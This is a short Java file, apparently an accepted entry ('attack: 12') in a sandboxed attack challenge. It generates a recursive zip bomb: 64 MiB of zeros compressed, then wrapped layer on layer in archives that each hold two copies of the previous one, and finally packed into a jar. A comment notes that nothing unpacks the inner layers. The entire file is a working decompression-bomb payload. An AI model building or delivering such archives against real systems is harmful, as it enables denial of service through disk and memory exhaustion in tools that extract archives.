// attack: 12
// verdict: accepted
import module java.base;
import org.showdown.sandbox.Forge;

public class Forged {
    public static byte[] file() throws Exception {
        // Nobody unpacks what is inside: each layer is an entry like any other.
        byte[] inner = Forge.zip(new TreeMap<>(Map.of("zeros", new byte[64 << 20])));
        for (int depth = 0; depth < 20; depth++) {
            inner = Forge.zip(new TreeMap<>(Map.of("a.zip", inner, "b.zip", inner)));
            if (inner.length > 1 << 20) {
                break;
            }
        }
        var entries = Forge.jar();
        entries.put("inner.zip", inner);
        return Forge.zip(entries);
    }
}
